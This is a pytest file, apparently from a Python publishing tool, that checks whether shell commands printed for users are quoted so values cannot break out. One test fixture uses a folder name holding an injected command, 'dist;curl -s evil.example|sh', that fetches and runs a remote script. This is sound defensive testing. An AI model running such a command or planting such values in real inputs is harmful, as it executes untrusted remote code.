"""A command we print for the user to copy is quoted for the shell (issue 18, "Shell text
quoted"): a value in it, a folder name here, stays one word whatever it holds."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given

from support.fuzz import any_text
from trusted_publish.cli import main
from trusted_publish.console import shell_line
from trusted_publish.runtime import extras

HOSTILE_FOLDER = "dist;curl -s evil.example|sh"


def test_the_check_command_in_a_fix_quotes_the_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / HOSTILE_FOLDER
    folder.mkdir()
    (folder / "demo-1.0-py3-none-any.whl").write_bytes(b"not a zip")
    capsys.readouterr()
    # A publish (not `check`, whose own failure names no command to run) in a GitHub job.
    code = main(["--packages-dir", str(folder)], {"GITHUB_ACTIONS": "true"})
    err = "".join(capsys.readouterr())
    assert code == 3
    assert f"run `trusted-publish check '{folder}'` there" in err
    assert f"check {folder}`" not in err


def test_the_install_commands_of_the_extras_are_shell_words() -> None:
    assert extras.ATTESTATIONS.install_elsewhere == "pip install 'trusted-publish[attestations]'"
    for extra in extras.EXTRAS:
        assert shlex.split(extra.install_elsewhere)[:2] == ["pip", "install"]


@pytest.mark.fuzz
@given(words=any_text.map(lambda text: text.split(" ")))
def test_any_words_come_back_as_the_same_words(words: list[str]) -> None:
    # What a POSIX shell would split the printed line into: exactly the words we meant.
    assert shlex.split(shell_line(*words)) == words
